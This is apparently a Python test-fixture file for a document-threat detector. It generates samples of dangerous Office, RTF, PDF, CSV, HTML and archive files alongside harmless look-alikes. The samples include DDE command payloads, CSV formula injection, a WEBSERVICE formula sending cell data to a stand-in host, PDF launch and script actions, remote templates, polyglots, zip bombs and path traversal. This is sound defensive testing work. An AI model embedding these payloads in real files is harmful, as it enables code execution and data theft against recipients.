"""One sample of every danger, made here: (name, bytes, the code that names it)."""

# ruff: noqa: E501  a sample a line is a table

import struct
import zlib

from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from tests.detectors import samples
from tests.detectors.compound import compound

_RELATIONSHIP = '<R><Relationship Id="r" Type="x/{}" Target="{}" {}/></R>'


def _linked(kind: str, target: str, mode: str = 'TargetMode="External"', **parts: bytes) -> bytes:
    rels = {"word/_rels/document.xml.rels": _RELATIONSHIP.format(kind, target, mode)}
    return samples.rezipped(samples.word(), rels | parts)


def _with(name: str, content: bytes | str, base: bytes | None = None) -> bytes:
    return samples.rezipped(base or samples.word(), {name: content})


def _field(*instructions: str) -> bytes:
    """Fields one behind the other, each in one run."""
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    runs = "".join(f"{begin}<w:r><w:instrText>{text}</w:instrText></w:r>{end}" for text in instructions)
    return samples.word_with(f"<w:p>{runs}</w:p>")


def _cell(formula: str) -> bytes:
    return samples.sheet((("镇", formula),))


def _pdf(change) -> bytes:
    return samples.pdf_with(change)


def _entries(**entries: str) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject(f"/{key}"): NameObject(value) if value.startswith("/") else TextStringObject(value)
            for key, value in entries.items()
        }
    )


def _opens(**action: str):
    return lambda writer: writer.root_object.__setitem__(NameObject("/OpenAction"), _entries(**action))


def _bookmarked(writer) -> None:
    bookmark = writer._add_object(_entries(Title="一"))
    bookmark.get_object()[NameObject("/A")] = _entries(S="/Launch", F="a.exe")
    writer.root_object[NameObject("/Outlines")] = DictionaryObject({NameObject("/First"): bookmark})


def _noted(subtype: str):
    def change(writer) -> None:
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(_entries(Subtype=subtype))])

    return change


def _form(**entries: object):
    def change(writer) -> None:
        form = DictionaryObject({NameObject(f"/{key}"): value for key, value in entries.items()})
        writer.root_object[NameObject("/AcroForm")] = form

    return change


def _locked_zip() -> bytes:
    data = bytearray(samples.zipped({"a.txt": "a"}))
    data[data.index(b"PK\x01\x02") + 8] |= 1
    data[6] |= 1
    return bytes(data)


def _pdf_bomb() -> bytes:
    body = zlib.compress(b"\0" * (200 * 1024 * 1024), 9)
    stream = b"9 0 obj\n<</Length %d/Filter/FlateDecode>>\nstream\n%s\nendstream\nendobj\n" % (
        len(body),
        body,
    )
    return samples.pdf().replace(b"xref\n", stream + b"xref\n", 1)


def _long_directory() -> bytes:
    """The end record of an archive that claims a directory of 100 MB."""
    return samples.zipped({"a.txt": "a"})[:-22] + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 9, 9, 10**8, 0, 0)


def _odf(**parts: str) -> bytes:
    return samples.rezipped(
        samples.open_document(), {name.replace("_", "."): text for name, text in parts.items()}
    )


def _dde_book() -> bytes:
    path = "cmd\x03/c calc".encode("latin-1")
    return samples.old_sheet(samples.bound_sheet(), (0x1AE, struct.pack("<HHB", 0, len(path), 0) + path))


DANGEROUS = {
    "macros of Word": ("a.docx", _with("word/vbaProject.bin", b"x"), "macros"),
    "macros under another name": ("a.docx", _linked("vbaProject", "notes.bin", ""), "macros"),
    "macros in a package of no known kind": (
        "a.docx", samples.zipped({"[Content_Types].xml": "<T/>", "x/vbaProject.bin": "x"}), "macros",
    ),
    "macros of an embedded workbook": (
        "a.docx", _with("word/embeddings/a.xlsm", _with("xl/vbaProject.bin", b"x", samples.sheet())), "macros",
    ),
    "macros of old Word": ("a.doc", samples.old_word(streams={"Macros/VBA/dir": b"x"}), "macros"),
    "Excel 4 macros": ("a.xlsx", _with("xl/macrosheets/sheet1.xml", "<a/>", samples.sheet()), "macros"),
    "Excel 4 macros of old Excel": ("a.xls", samples.old_sheet(samples.bound_sheet(kind=1)), "macros"),
    "macros of OpenDocument": ("a.odt", _with("Basic/Standard/M.xml", "<a/>", samples.open_document()), "macros"),
    "events of OpenDocument": (
        "a.odt", _odf(content_xml="<o xmlns:x='x'><e x:href='vnd.sun.star.script:a'/></o>"), "macros",
    ),
    "DDE field": ("a.docx", _field("DDEAUTO c:\\a.exe"), "dde"),
    "DDE field behind another": ("a.docx", _field("PAGE", "DDE a b"), "dde"),
    "DDE field spelt in numbers": ("a.docx", _field("QUOTE 68 68 69 65 85 84 79", '"c:\\a.exe"'), "dde"),
    "DDE field of old Word": ("a.doc", samples.old_word("\x13DDEAUTO c:\\a.exe\x14结果\x15"), "dde"),
    "DDE formula": ("a.xlsx", _cell("=cmd|'/c calc'!A0"), "dde"),
    "DDE formula in csv": ("a.csv", "镇,金额\n松涛镇,=cmd|'/c calc'!A0\n".encode(), "dde"),
    "DDE formula in csv, quoted": ("a.csv", '镇,金额\n"+cmd|\'/c calc\'!A0",1\n'.encode("gb18030"), "dde"),
    "DDE link of a workbook": ("a.xlsx", _with("xl/externalLinks/e1.xml", "<a><ddeLink/></a>", samples.sheet()), "dde"),
    "DDE link of old Excel": ("a.xls", _dde_book(), "dde"),
    "DDE of OpenDocument": ("a.odt", _odf(content_xml="<o xmlns:t='t'><t:dde-source/></o>"), "dde"),
    "DDE field of rich text": ("a.rtf", b"{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\a.exe}}}", "dde"),
    "formula that asks the web": ("a.xlsx", _cell('=WEBSERVICE("http://example.org/"&A1)'), "active_formula"),
    "formula in csv that asks the web": ("a.csv", b'a,b\n1,=WEBSERVICE("http://example.org")\n', "active_formula"),
    "ActiveX": ("a.docx", _with("word/activeX/activeX1.xml", "<a/>"), "activex"),
    "packaged object": ("a.docx", _with("word/embeddings/oleObject1.bin", b"x"), "ole_object"),
    "packaged object elsewhere": (
        "a.docx", _linked("oleObject", "media/image9.png", "", **{"word/media/image9.png": compound({"a": b"x"})}),
        "ole_object",
    ),
    "packaged object of old Word": ("a.doc", samples.old_word(streams={"O/_1/\x01Ole10Native": b"x"}), "ole_object"),
    "object in rich text": ("a.rtf", b"{\\rtf1{\\object{\\*\\objdata 0105}}}", "ole_object"),
    "program in Word": ("a.docx", _with("word/embeddings/a.exe", b"MZ\0"), "embedded_file"),
    "web page in Word": ("a.docx", _linked("aFChunk", "chunk.mht", ""), "embedded_file"),
    "template from elsewhere": ("a.docx", _linked("attachedTemplate", "https://example.org/a.dotm"), "external_template"),
    "template of rich text": ("a.rtf", b"{\\rtf1{\\*\\template http://example.org/a}}", "external_template"),
    "template of rich text, hidden": ("a.rtf", b"{\\rtf1{\\*\\template \\u104?\\u116?}}", "external_template"),
    "template of OpenDocument": (
        "a.odt", _odf(meta_xml="<o xmlns:m='m' xmlns:x='x'><m:template x:href='http://example.org/a'/></o>"),
        "external_template",
    ),
    "picture from elsewhere": ("a.docx", _linked("image", "https://example.org/a.png"), "external_object"),
    "picture from a share": ("a.docx", _linked("image", "\\\\example.org\\a.png"), "external_object"),
    "object from elsewhere": ("a.docx", _linked("oleObject", "mhtml:http://example.org/a!x"), "external_object"),
    "text from elsewhere": ("a.docx", _field('INCLUDETEXT "https://example.org/a.docx"'), "external_object"),
    "picture from elsewhere in OpenDocument": (
        "a.odt", _odf(content_xml="<o xmlns:d='d' xmlns:x='x'><d:image x:href='http://example.org/a'/></o>"),
        "external_object",
    ),
    "locked package": ("a.docx", compound({"EncryptedPackage": b"x"}), "encrypted"),
    "locked old Word": ("a.doc", samples.old_word(encrypted=True), "encrypted"),
    "locked old Excel": ("a.xls", samples.old_sheet((0x2F, b"\0" * 6)), "encrypted"),
    "locked old slides": ("a.ppt", samples.old_slides(token=0xF3D1C4DF), "encrypted"),
    "locked PDF": ("a.pdf", _pdf(lambda w: w.encrypt("secret", algorithm="RC4-128")), "encrypted"),
    "locked zip": ("a.zip", _locked_zip(), "encrypted"),
    "script of a PDF": ("a.pdf", _pdf(_opens(S="/JavaScript", JS="x")), "javascript"),
    "script behind a link": ("a.pdf", _pdf(_opens(S="/URI", URI="javascript:x")), "javascript"),
    "program of a PDF": ("a.pdf", _pdf(_opens(S="/Launch", F="a.exe")), "launch"),
    "program behind a bookmark": ("a.pdf", _pdf(_bookmarked), "launch"),
    "action of a PDF": ("a.pdf", _pdf(_opens(S="/URI", URI="http://example.org")), "open_action"),
    "file in a PDF": ("a.pdf", _pdf(lambda w: w.add_attachment("a.txt", b"x")), "embedded_file"),
    "film in a PDF": ("a.pdf", _pdf(_noted("/RichMedia")), "rich_media"),
    "form of a PDF": ("a.pdf", _pdf(_opens(S="/SubmitForm")), "submit_form"),
    "dynamic form": ("a.pdf", _pdf(_form(XFA=TextStringObject("x"))), "xfa"),
    "page with a script": ("a.html", b"<html><script>steal()</script></html>", "script"),
    "page with a handler": ("a.html", b"<html><body onload=steal()>x</html>", "script"),
    "drawing with a script": ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>x</script></svg>", "script"),
    "drawing with a handler": ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>", "script"),
    "XML with a page in it": ("a.xml", b"<?xml version='1.0'?><a><h:script xmlns:h='x'>x</h:script></a>", "script"),
    "program": ("a.exe", b"MZ\x90\0", "executable"),
    "program by its name": ("通知.pdf.bat", b"echo 1", "executable"),
    "shortcut": ("a.docx", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60, "executable"),
    "program in a zip": ("a.zip", samples.zipped({"a.txt": b"MZ\x90\0"}), "executable"),
    "macros in a zip": ("a.zip", samples.zipped({"a.docx": _with("word/vbaProject.bin", b"x")}), "macros"),
    "page under the name of a PDF": ("a.pdf", b"<html><body>x</body></html>", "disguised"),
    "PDF that is a page": ("a.pdf", samples.pdf() + b"<html><script>x</script></html>", "polyglot"),
    "PDF that is a zip": ("a.pdf", samples.pdf() + samples.zipped({"a.txt": "a"}), "polyglot"),
    "picture that is a zip": ("a.png", samples.picture() + samples.zipped({"a.txt": "a"}), "polyglot"),
    "zip behind something": ("a.zip", b"PK\3\4<html>" + samples.zipped({"a.txt": "a"}), "polyglot"),
    "bomb by ratio": ("a.docx", samples.zipped({"word/document.xml": b"\0" * 60_000_000}), "bomb"),
    "bomb by members": ("a.zip", samples.zipped({f"{n}.txt": b"" for n in range(10_001)}), "bomb"),
    "bomb by its directory": ("a.zip", _long_directory(), "bomb"),
    "bomb in a PDF": ("a.pdf", _pdf_bomb(), "bomb"),
    "archive in an archive": ("a.zip", samples.zipped({"a.dat": samples.zipped({"b.txt": "b"})}), "nested_archive"),
    "archive of another kind in an archive": ("a.zip", samples.zipped({"a.txt": b"Rar!\x1a\x07\0x"}), "nested_archive"),
    "path that leaves the folder": ("a.zip", samples.zipped({"../a.txt": "a"}), "unsafe_path"),
}  # fmt: skip

#: What is like a danger and none.
HARMLESS = {
    "equation": ("a.docx", _with("word/embeddings/oleObject1.bin", compound({"Equation Native": b"x"}))),
    "workbook behind a chart": ("a.docx", _with("word/embeddings/a.xlsx", samples.sheet())),
    "link to a page": ("a.docx", _linked("hyperlink", "https://example.org")),
    "template of this computer": ("a.docx", _linked("attachedTemplate", "file:///C:/公文.dotx")),
    "template of this computer in rich text": ("a.rtf", b"{\\rtf1{\\*\\template C:\\\\a.dotm}}"),
    "picture copied from a page": ("a.docx", _field('INCLUDEPICTURE "https://example.org/a.png" \\* MERGEFORMATINET')),
    "page number": ("a.docx", _field("PAGE", "NUMPAGES")),
    "ordinary formulas": ("a.xlsx", samples.sheet((("=SUM(A1:B2)", '=HYPERLINK("http://example.org","x")'),))),
    "numbers below zero": ("a.csv", "镇,增减\n松涛镇,-5\n竹溪镇,+3\n".encode()),
    "list with strokes": ("a.txt", "- 甲|乙！\n- 丙 | 丁!\n@云溪县".encode()),
    "PDF with links": ("a.pdf", _pdf(_noted("/Link"))),
    "papers in a zip": ("a.zip", samples.zipped({"a.docx": samples.word(), "b.pdf": samples.pdf()})),
    "page without scripts": ("a.html", b"<html><body><p>x</p></body></html>"),
    "drawing without scripts": ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>"),
    "picture": ("a.jpg", samples.picture("JPEG")),
    "old book with a link to another": (
        "a.xls", samples.old_sheet((0x1AE, struct.pack("<HHB", 0, 8, 0) + b"\x01a\x03b.xls")),
    ),
}  # fmt: skip
